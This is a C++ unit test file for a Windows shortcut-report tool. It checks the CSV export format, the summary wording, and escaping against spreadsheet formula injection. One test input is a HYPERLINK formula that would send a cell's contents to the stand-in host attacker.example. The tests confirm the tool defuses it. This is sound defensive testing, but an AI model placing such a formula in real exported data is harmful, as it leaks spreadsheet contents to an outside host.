#include "core/Csv.h"
#include "core/ShortcutReport.h"

#include <gtest/gtest.h>

TEST(ShortcutReport, CsvIsUtf8WithMarkCrLfLinesAndQuotedWhereNeeded)
{
    const std::vector<FoundShortcut> found = {
        {"C:\\Users\\Ann\\Desktop\\Game.lnk", "C:\\Games\\Game.exe", ShortcutState::Protected},
        {"C:\\Links\\Say \"hi\", then go.lnk", "C:\\Tools\\a,b.exe", ShortcutState::StartsProtectedProgram},
        {"C:\\Links\\Caf\xC3\xA9.lnk", "", ShortcutState::RecordMissing},
    };
    EXPECT_EQ(ShortcutReportCsv(found),
              "\xEF\xBB\xBF"
              "Shortcut,Program,State\r\n"
              "C:\\Users\\Ann\\Desktop\\Game.lnk,C:\\Games\\Game.exe,Protected\r\n"
              "\"C:\\Links\\Say \"\"hi\"\", then go.lnk\",\"C:\\Tools\\a,b.exe\","
              "\"Not protected, starts a protected program\"\r\n"
              "C:\\Links\\Caf\xC3\xA9.lnk,,\"Protected, record missing\"\r\n");
    EXPECT_EQ(ShortcutReportCsv({}), "\xEF\xBB\xBFShortcut,Program,State\r\n");
}

TEST(ShortcutReport, SummaryCountsProtectedWaysInAndBrokenOnes)
{
    std::vector<FoundShortcut> found;
    for (ShortcutState state : {ShortcutState::Protected, ShortcutState::Protected, ShortcutState::RecordMissing,
                                ShortcutState::RecordDamaged, ShortcutState::LauncherMissing,
                                ShortcutState::StartsProtectedProgram, ShortcutState::NotProtected})
        found.push_back({"x.lnk", "x.exe", state});
    EXPECT_EQ(LookSummary(found, 0, false), "7 shortcuts: 2 protected, 1 not protected that starts a protected program, "
                                     "3 broken.");
    EXPECT_EQ(LookSummary({}, 2, false), "0 shortcuts: 0 protected, 0 not protected that start a protected program, "
                                         "0 broken. 2 places could not be read.");
    EXPECT_EQ(LookSummary({}, 0, true), "0 shortcuts: 0 protected, 0 not protected that start a protected program, "
                                        "0 broken. The look stopped at its limit of 50000 shortcuts and 20000 "
                                        "folders: some were not looked at.");
}

TEST(Csv, AFieldThatASpreadsheetWouldRunIsLedByAQuote)
{
    const struct {
        const char* text;
        const char* field;
    } cases[] = {
        {"=HYPERLINK(\"http://attacker.example/?\"&A1,\"Open\")",
         "\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"Open\"\")\""},
        {"+1", "'+1"},
        {"-2+3", "'-2+3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "\"'\r=1\""},
        {"C:\\a=b+c-d@e.exe", "C:\\a=b+c-d@e.exe"}, // only the first character counts
        {" =1", " =1"},
        {"", ""},
    };
    for (const auto& c : cases)
        EXPECT_EQ(CsvField(c.text), c.field) << c.text;
    EXPECT_EQ(ShortcutReportCsv({{"C:\\d\\x.lnk", "=cmd", ShortcutState::NotProtected}}),
              "\xEF\xBB\xBFShortcut,Program,State\r\nC:\\d\\x.lnk,'=cmd,Not protected\r\n");
}
